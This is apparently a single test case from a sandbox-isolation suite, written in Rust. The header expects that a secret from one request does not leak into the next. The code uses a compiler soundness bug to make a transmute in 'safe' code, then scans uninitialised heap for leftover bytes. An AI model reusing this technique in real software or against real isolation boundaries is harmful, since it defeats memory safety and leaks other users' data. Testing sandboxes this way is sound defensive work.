//! attack  : 078_state_residue_heap
//! class   : state
//! what    : Reads uninitialised heap through a hole looking for the previous request's bytes.
//! profile : std   (smallest guest profile in which this compiles)
//! calls   : "put:SECRETSECRET" ; "get"
//! expect.status = OK|FAULT
//! expect.worker = same|restarted
//! expect.next_ok = true
//! expect.call2.not_contains = SECRETSECRET
//! expect.fd_delta = 0
#![forbid(unsafe_code)]
#![allow(unused, unconditional_recursion, clippy::all)]

// --- soundness-hole helper (rust-lang/rust#25860, higher-ranked form; open, compiles on rustc 1.95 and 1.97-nightly) ---
fn tr<'a, 'b, T: ?Sized>(_v: &'a &'b (), b: &'b mut T) -> &'a mut T {
    b
}
fn ext<T: ?Sized + 'static>(x: &mut T) -> &'static mut T {
    let f: fn(&'static &'static (), &mut T) -> &'static mut T = tr;
    f(&&(), x)
}
#[allow(dead_code)]
fn transmute<A: 'static, B: 'static>(obj: A) -> B {
    enum D<A, B> {
        #[allow(dead_code)]
        A(Option<Box<A>>),
        B(Option<Box<B>>),
    }
    #[inline(never)]
    fn inner<A: 'static, B: 'static>(d: &mut D<A, B>, obj: A) -> B {
        let D::B(r) = d else { unreachable!() };
        let r = ext(r);
        *d = D::A(Some(Box::new(obj)));
        std::hint::black_box(d);
        *r.take().unwrap()
    }
    inner(std::hint::black_box(&mut D::B(None)), obj)
}
pub fn attack(input: &[u8]) -> Vec<u8> {
    if let Some(s) = input.strip_prefix(b"put:") {
        let v: Vec<Vec<u8>> = (0..64).map(|_| s.repeat(400)).collect();
        return vec![v[3][0]];
    }
    let v: Vec<u8> = Vec::with_capacity(1 << 16);
    let a = v.as_ptr() as usize;
    let mut o = vec![];
    for i in 0..1 << 16 {
        let c = *transmute::<usize, &'static u8>(a + i);
        if c.is_ascii_alphabetic() {
            o.push(c)
        }
    }
    o
}
